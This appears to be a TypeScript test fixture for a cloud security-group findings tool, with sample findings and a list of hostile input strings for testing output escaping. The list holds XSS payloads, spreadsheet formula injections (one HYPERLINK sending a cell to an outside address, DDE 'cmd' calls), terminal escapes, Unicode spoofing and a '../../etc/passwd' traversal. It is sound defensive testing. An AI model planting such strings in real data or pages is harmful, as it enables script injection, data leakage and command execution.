import type { Finding, Severity } from "@sgt/findings";

export const ORIGIN = { createdAt: "2026-11-20T12:00:00Z", toolVersion: "0.1.0" };

/** A finding about group sg-1, changed where a test wants it otherwise. */
export function finding(more: Partial<Finding> = {}): Finding {
  const resource = { type: "security-group" as const, id: "sg-1", name: "web", vpcId: "vpc-1" };
  return {
    findingId: "f-0123456789abcdef",
    kind: "sg-open-critical-port",
    accountId: "123456789012",
    region: "eu-west-1",
    severity: "critical",
    resource,
    title: "web admits SSH from anywhere",
    what: "Rule tcp 22 from 0.0.0.0/0",
    why: "Anyone may try to log in.",
    remedy: "Replace it by the addresses that need it.",
    evidence: [{ resource, says: "ingress tcp 22 from 0.0.0.0/0" }],
    exposure: { state: "reachable", because: ["eni-1 has the public address 203.0.113.7"] },
    ...more,
  };
}

/** One finding of every severity and resource type, with and without traffic. */
export function manyFindings(): Finding[] {
  const severities: Severity[] = ["critical", "high", "medium", "low", "info"];
  const types = [
    "account",
    "security-group",
    "network-acl",
    "network-interface",
    "instance",
    "load-balancer",
    "database",
    "nat-gateway",
    "subnet",
    "vpc",
  ] as const;
  return types.map((type, index) => {
    const resource = { type, id: `${type}-1`, name: `the ${type}` };
    return finding({
      findingId: `f-${String(index).padStart(16, "0")}`,
      kind: `kind-${index % 3}`,
      severity: severities[index % 5] as Severity,
      resource,
      exposure: { state: index % 2 === 0 ? "unknown" : "not-reachable", because: ["no routes", "no network ACLs"] },
      ...(index % 2 === 0
        ? {
            use: { state: "used", recordCount: 7, sourceCount: 2, lastSeen: 1_793_491_199 },
            shrink: { addressesBefore: "65536", addressesAfter: "2" },
          }
        : {}),
    });
  });
}

/** Text as somebody could write it into a description or a tag, by what it attempts. */
export const HOSTILE: readonly (readonly [attempt: string, text: string])[] = [
  ["HTML", "<script>alert(1)</script><img src=x onerror=alert(1)>"],
  ["an attribute", "\" onmouseover='alert(1)'"],
  ["a formula", '=HYPERLINK("http://203.0.113.9/"&A1,"click")'],
  ["a formula after a plus", "+1+cmd|' /C calc'!A0"],
  ["a formula after an at", "@SUM(1+1)*cmd|' /C calc'!A0"],
  ["a formula after a tab", "\t=1+1"],
  ["a formula after a line end", "a\n=1+1"],
  ["terminal control", "\u001b[2J\u001b]0;owned\u0007\u009b31m"],
  ["text from right to left", "10.0.0.0/8\u202e moc.elpmaxe"],
  ["text that hides", "a\u200b\u2060\ufeffb"],
  ["a NUL", "a\u0000b"],
  ["other line ends", "a\u2028b\u2029c\u0085d"],
  ["half a pair", "a\ud83db"],
  ["Markdown", "[link](http://203.0.113.9/) **bold** | cell | `code`"],
  ["a SARIF link and placeholder", "[link](0) {0} \\"],
  ["XML", "]]>&lt;x>&#0;_x0041_"],
  ["a path", "../../etc/passwd"],
  ["nothing", ""],
  ["a blank", " "],
];

/** A finding in which every text from elsewhere is hostile. */
export function hostileFinding(text: string): Finding {
  const resource = { type: "security-group" as const, id: text || "sg-1", name: text, vpcId: text };
  return finding({
    resource,
    title: text,
    what: text,
    remedy: text,
    evidence: [{ resource, says: text }],
    exposure: { state: "unknown", because: [text] },
  });
}
